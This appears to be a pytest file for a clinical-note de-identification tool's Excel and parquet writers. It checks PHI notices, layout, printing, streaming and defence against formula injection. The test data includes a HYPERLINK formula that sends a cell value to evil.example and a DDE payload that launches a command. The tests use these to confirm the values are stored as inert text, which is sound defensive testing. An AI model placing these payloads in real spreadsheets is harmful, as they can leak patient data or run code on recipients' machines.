"""The shareable and review workbooks as their recipients see them: the notice that opens the file,
columns wide enough for their content, rows tall enough for their notes (LibreOffice included), a
printout that fits the page width and repeats its header, and no text that Excel would evaluate."""

import csv
import math
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from casenotes.io.columns import plan_columns
from casenotes.io.writers import (
    ABOUT_SHEET, LINE_POINTS, MAX_ROW_POINTS, text_width, write_results_workbook, write_review_workbook,
)
from casenotes.phi.replace import Replacement
from casenotes.steps import NoteRecord, TextCell

KEY = "PT-FDN7TAEEB6"  # 13 characters, capitals: what used to be cut to "PT-FDN7TAE"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"MRN")'
DDE = "=cmd|'/c calc'!Z1"
NOTE = ("Pt seen on the ward today for follow up of hypertension and type 2 diabetes. Reports mild dizziness on "
        "standing, no chest pain, no shortness of breath. Plan: continue metformin 500 mg twice daily, recheck "
        "BP in 2 weeks, labs before the next visit. ")


def _workbook(tmp_path, notes, mode="tags", include_original=False, extra_headers=(), run_info=None,
              extra_sheets=()):
    """A Results workbook through the real writer, from records as the pipeline would leave them."""
    columns = {"MRN": [f"{i:05d}" for i in range(len(notes))], "Note": list(notes)}
    columns.update({h: ["x"] * len(notes) for h in extra_headers})
    frame = pd.DataFrame(columns, dtype=object)
    plan = plan_columns(frame, text_columns=["Note"], id_column="MRN", safe_columns=list(extra_headers))
    records = [NoteRecord(i + 1, [TextCell("Note", n, deidentified=n)], KEY, replaced={"MRN": KEY})
               for i, n in enumerate(notes)]
    info = run_info or [("Input file", "in.xlsx"), ("Settings", f"mode={mode}, jsonl=False")]
    path = tmp_path / "out.casenotes.xlsx"
    write_results_workbook(path, frame, plan, records, info, include_original, extra_sheets=extra_sheets, mode=mode)
    return path


def _about(wb):
    return "\n".join(str(c.value) for row in wb[ABOUT_SHEET].iter_rows() for c in row if c.value)


def _sheet_xml(path):
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_the_first_sheet_says_the_file_is_deidentified_and_in_which_mode(tmp_path):
    wb = load_workbook(_workbook(tmp_path, [NOTE]))
    assert wb.sheetnames[0] == ABOUT_SHEET and wb.active.title == ABOUT_SHEET  # what opens
    text = _about(wb)
    assert "De-identified" in text and "tags mode" in text and "[NAME]" in text
    assert "fictitious" not in text.lower()
    assert "CONTAINS PHI" not in text
    # The Results table itself is untouched: header in row 1, frozen, filtered; every printed page
    # carries the notice too.
    results = wb["Results"]
    assert [c.value for c in results[1]][:2] == ["MRN", "De-identified note"]
    assert results.freeze_panes == "A2" and results.auto_filter.ref == "A1:E2"
    assert "De-identified" in results.oddHeader.center.text


def test_surrogates_notice_says_names_places_and_dates_are_fictitious(tmp_path):
    wb = load_workbook(_workbook(tmp_path, [NOTE], mode="surrogates"))
    text = _about(wb)
    assert "FICTITIOUS" in text and "names, places and dates" in text.lower()
    assert "surrogates mode" in text
    assert "fictitious" in wb["Results"].oddHeader.center.text


def test_an_original_note_column_is_announced_as_phi(tmp_path):
    wb = load_workbook(_workbook(tmp_path, [NOTE], include_original=True))
    about = wb[ABOUT_SHEET]
    assert about["A1"].value.startswith("CONTAINS PHI")
    assert "NOT de-identified" in _about(wb) and "Note" in _about(wb)
    assert all(ws.oddHeader.center.text.startswith("CONTAINS PHI") for ws in wb)


def test_unknown_mode_is_refused(tmp_path):
    with pytest.raises(ValueError, match="mode"):
        _workbook(tmp_path, [NOTE], mode="blanks")


def test_a_key_fits_its_column_and_every_column_is_sized(tmp_path):
    wb = load_workbook(_workbook(tmp_path, [NOTE, "short"]))
    results = wb["Results"]
    assert results["A2"].value == KEY
    # Capitals are wider than the digit Excel measures widths in: 13 of them need more than 13 + a margin.
    assert results.column_dimensions["A"].width >= max(text_width(KEY) + 1, 15)
    for ws in wb.worksheets[1:]:
        for col in range(1, ws.max_column + 1):
            letter = ws.cell(1, col).column_letter
            width = ws.column_dimensions[letter].width
            assert ws.column_dimensions[letter].customWidth and 6 <= width <= 90, (ws.title, letter)
            header = str(ws.cell(1, col).value)
            if width < 60:  # a header fits beside its filter button
                assert width >= len(header), (ws.title, header)


def test_long_notes_get_row_heights_within_excels_limit(tmp_path):
    long_note = NOTE * 8  # about 1,800 characters: many lines in an 80-wide column
    lines = "\n".join(f"line {i}" for i in range(6))
    huge = "word " * 7000  # over Excel's cell limit: written cut, its row as tall as Excel allows
    wb = load_workbook(_workbook(tmp_path, [long_note, lines, "ok", huge]))
    results = wb["Results"]
    note_col = results.cell(1, 2).column_letter
    assert results[f"{note_col}2"].alignment.wrap_text
    height = results.row_dimensions[2].height
    # 1,800 characters at about 80 a line is over 20 lines; more than one line, never over 409 points.
    assert height and 15 * LINE_POINTS <= height <= MAX_ROW_POINTS
    assert results.row_dimensions[3].height >= 6 * LINE_POINTS  # explicit newlines count
    assert not results.row_dimensions[4].height or results.row_dimensions[4].height <= LINE_POINTS
    assert results.row_dimensions[5].height == MAX_ROW_POINTS


def _assert_print_setup(ws, title_rows):
    setup = ws.page_setup
    assert setup.orientation == "landscape", ws.title
    assert int(setup.fitToWidth) == 1 and int(setup.fitToHeight) == 0, ws.title
    assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
    if title_rows:
        assert ws.print_title_rows == title_rows, ws.title
    assert "&P" in ws.oddFooter.right.text and "&N" in ws.oddFooter.right.text
    assert ws.oddFooter.left.text == "&F"


def test_every_sheet_prints_landscape_one_page_wide_with_its_header_on_each_page(tmp_path):
    path = _workbook(tmp_path, [NOTE] * 3, extra_sheets=[("Codes", ["Row", "Code"], lambda: [[1, "I10"]])])
    wb = load_workbook(path)
    assert wb.sheetnames == [ABOUT_SHEET, "Results", "PHI findings", "Codes", "Run info"]
    _assert_print_setup(wb[ABOUT_SHEET], None)
    for ws in wb.worksheets[1:]:
        _assert_print_setup(ws, "$1:$1")

    review = tmp_path / "review.xlsx"
    records = [NoteRecord(1, [TextCell("Note", "Seen by Dr Smith", deidentified="Seen by Dr [NAME]")], KEY)]
    write_review_workbook(review, records, {r.row: r for r in records}.get, {KEY: "00001"}, "MRN",
                          [("Settings", "mode=tags")])
    wb = load_workbook(review)
    for ws in wb:
        _assert_print_setup(ws, "$1:$2" if ws.title in ("CONTAINS PHI - review", "Corrections") else "$1:$1")
        assert "CONFIDENTIAL" in ws.oddHeader.center.text


def _printed_pages(ws, paper=(11.0, 8.5)):
    """Pages a fit-to-width landscape printout of ``ws`` takes, from its widths and heights (Letter)."""
    margins = ws.page_margins
    printable_width = (paper[0] - margins.left - margins.right) * 72
    printable_height = (paper[1] - margins.top - margins.bottom) * 72
    # A column w wide is w "0"s of 7 pixels plus 5 of padding; a pixel is 0.75 point.
    widths = [ws.column_dimensions[ws.cell(1, c).column_letter].width for c in range(1, ws.max_column + 1)]
    scale = min(1.0, printable_width / sum((w * 7 + 5) * 0.75 for w in widths))
    heights = [ws.row_dimensions[r].height or LINE_POINTS for r in range(1, ws.max_row + 1)]
    return math.ceil(sum(heights) * scale / printable_height)


def test_nine_rows_do_not_print_on_sixteen_pages(tmp_path):
    wb = load_workbook(_workbook(tmp_path, [NOTE * 3] * 9))
    assert _printed_pages(wb["Results"]) <= 3


def test_headers_sheet_names_and_run_info_are_never_formulas(tmp_path):
    path = _workbook(tmp_path, [DDE + " then the note", NOTE], extra_headers=[HYPERLINK, DDE],
                     run_info=[("Input file", DDE), (HYPERLINK, "mode=tags")],
                     extra_sheets=[("=Co:des?", ["+Row", "@Code"], lambda: [["-1+2", 3]])])
    wb = load_workbook(path)
    results = wb["Results"]
    headers = {c.value: c for c in results[1]}
    for text in (HYPERLINK, DDE):
        cell = headers[text]  # the exact text, read back as a string
        assert cell.data_type == "s" and cell.quotePrefix  # Excel's own mark for "text, even if edited"
    note = results.cell(2, headers["De-identified note"].column)
    assert note.value.startswith(DDE) and note.data_type == "s" and note.quotePrefix
    info = {r[0].value: r[1] for r in wb["Run info"].iter_rows(min_row=2)}
    assert info["Input file"].value == DDE and info["Input file"].quotePrefix
    assert HYPERLINK in info
    sheet = wb.worksheets[3]
    assert sheet.title == "=Co_des_"  # characters Excel forbids in a sheet name replaced
    assert [c.value for c in sheet[1]] == ["+Row", "@Code"] and all(c.quotePrefix for c in sheet[1])
    assert sheet["A2"].value == "-1+2" and sheet["A2"].data_type == "s"
    assert "<f>" not in _sheet_xml(path)  # nothing anywhere was written as a formula


def test_review_workbook_key_map_header_and_highlighted_note_stay_text(tmp_path):
    review = tmp_path / "review.xlsx"
    text = "=1+1 seen by Dr Smith"
    records = [NoteRecord(1, [TextCell("Note", text, deidentified="=1+1 seen by Dr [NAME]",
                                      replacements=(Replacement(16, 22, "NAME"),))], KEY)]
    write_review_workbook(review, records, {r.row: r for r in records}.get, {KEY: "=2+2"}, HYPERLINK,
                          [("Input file", DDE)])
    wb = load_workbook(review, rich_text=True)
    keys = wb["Key map - PHI"]
    assert keys["B1"].value == HYPERLINK and keys["B1"].data_type == "s" and keys["B1"].quotePrefix
    assert keys["B2"].value == "=2+2" and keys["B2"].quotePrefix
    assert keys.column_dimensions["A"].width >= text_width(KEY) + 1
    deidentified = wb["CONTAINS PHI - review"]["E3"]
    assert str(deidentified.value).startswith("=1+1") and deidentified.quotePrefix
    assert "<f>" not in _sheet_xml(review)


def test_the_pipeline_writes_the_mode_and_evaluate_still_reads_the_workbook(tmp_path):
    from casenotes.evaluate import evaluate
    from casenotes.pipeline import RunOptions, run

    notes = ["Seen by Dr. Quortney on the ward, stable, BP 120/80. Plan to continue lasix 40 mg daily.",
             "Pt comfortable on 2L NC, sats 96%. Continue current plan and monitor for 2 days."]
    src = tmp_path / "in.csv"
    with src.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["MRN", "Note"])
        writer.writerows([[f"M{i:04d}", n] for i, n in enumerate(notes)])
    [result] = run([src], RunOptions(output_dir=tmp_path / "out", mode="surrogates", review=True))
    assert result.status == "done", result.error
    wb = load_workbook(result.outputs["workbook"])
    assert wb.sheetnames[0] == ABOUT_SHEET and "surrogates mode" in _about(wb) and "FICTITIOUS" in _about(wb)
    assert [c.value for c in wb["Results"][1]][:2] == ["MRN", "De-identified note"]
    assert wb["Results"].max_row == len(notes) + 1
    assert wb["Results"].column_dimensions["A"].width >= text_width(wb["Results"]["A2"].value) + 1
    # Writing time beside processing time; the review workbook, written before it, leaves it out
    info = [(row[0].value, row[1].value) for row in wb["Run info"].iter_rows(min_row=2)]
    keys = [k for k, _ in info]
    assert keys[keys.index("Processing time (s)") + 1] == "Writing time (s)"
    assert float(dict(info)["Writing time (s)"].split()[0]) >= 0
    review_info = load_workbook(result.outputs["review"])["Run info"]
    assert not any(c.value in ("Writing time (s)", "(writing time)") for row in review_info.iter_rows() for c in row)

    reference = tmp_path / "reference.csv"
    start = notes[0].index("Quortney")
    with reference.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Note", "phi spans"])
        writer.writerows([[notes[0], f"[[{start}, {start + 8}]]"], [notes[1], "[]"]])
    scored = evaluate(result.outputs["workbook"], reference, text_column="Note", write=True)
    assert scored.rows == len(notes) and "PHI" in scored.sections
    wb = load_workbook(result.outputs["workbook"])
    assert wb.sheetnames[0] == ABOUT_SHEET and "Evaluation" in wb.sheetnames  # the rest is kept


def test_writing_streams_rows_so_memory_does_not_grow_with_them(tmp_path):
    """Sheets are written row by row (write-only mode): eight times the rows, about the same peak
    while writing. (Keeping every cell until the save, the earlier writer's peak grew with the rows.)"""
    import tracemalloc

    def writing_peak(rows: int) -> int:
        notes = [NOTE * 3] * rows
        frame = pd.DataFrame({"MRN": [f"{i:05d}" for i in range(rows)], "Note": notes}, dtype=object)
        plan = plan_columns(frame, text_columns=["Note"], id_column="MRN")
        records = [NoteRecord(i + 1, [TextCell("Note", n, deidentified=n)], KEY, replaced={"MRN": KEY})
                   for i, n in enumerate(notes)]
        tracemalloc.start()
        try:
            before = tracemalloc.get_traced_memory()[0]
            write_results_workbook(tmp_path / f"{rows}.xlsx", frame, plan, records, [("Settings", "mode=tags")])
            return tracemalloc.get_traced_memory()[1] - before
        finally:
            tracemalloc.stop()

    small, large = writing_peak(400), writing_peak(3200)
    assert large < small * 2, (small, large)


def test_a_table_longer_than_an_excel_sheet_continues_on_numbered_sheets(tmp_path, monkeypatch):
    """Excel opens no sheet over 1,048,576 rows: the rest goes to "Results (2)" and on, each sheet
    with its header, filter and frozen panes (the limit shrunk here to 5 rows, header included)."""
    import casenotes.io.writers as writers

    monkeypatch.setattr(writers, "EXCEL_MAX_ROWS", 5)
    notes = [f"Note number {i}. " + NOTE for i in range(1, 11)]
    wb = load_workbook(_workbook(tmp_path, notes))
    assert wb.sheetnames[:5] == [ABOUT_SHEET, "Results", "Results (2)", "Results (3)", "PHI findings"]
    notes_out = []
    for title in ("Results", "Results (2)", "Results (3)"):
        ws = wb[title]
        assert ws.max_row <= 5 and ws["A1"].value == "MRN" and ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}"
        notes_out += [str(ws.cell(r, 2).value) for r in range(2, ws.max_row + 1)]
    assert notes_out == notes  # every row once, in order
    assert wb["PHI findings"].max_row == 1  # no findings: the header alone, no continuation


def test_the_parquet_export_is_the_results_table_in_plain_text(tmp_path):
    pq = pytest.importorskip("pyarrow.parquet", reason="pyarrow is the 'catalogue' extra")
    from casenotes.io.writers import write_parquet

    notes = [NOTE, "=cmd|'/c calc'!Z1 " + NOTE, ""]
    frame = pd.DataFrame({"MRN": ["00001", "00002", "00003"], "Note": notes}, dtype=object)
    plan = plan_columns(frame, text_columns=["Note"], id_column="MRN")
    records = [NoteRecord(i + 1, [TextCell("Note", n, deidentified=n.replace("metformin", "[X]"))], KEY,
                          replaced={"MRN": KEY}, summary=f"summary {i}") for i, n in enumerate(notes)]
    path = tmp_path / "out.casenotes.parquet"
    write_parquet(path, frame, plan, records, extra_columns=[("Summary", "summary")])
    table = pq.read_table(path).to_pydict()
    assert list(table) == ["Row", "MRN", "De-identified note", "PHI count", "Needs review", "Review reason", "Summary"]
    assert table["Row"] == [1, 2, 3] and table["MRN"] == [KEY] * 3
    assert table["De-identified note"] == [n.replace("metformin", "[X]") for n in notes]
    assert table["Summary"] == ["summary 0", "summary 1", "summary 2"]
    assert not any(p.name.startswith(".~") for p in tmp_path.iterdir())  # written through a private folder
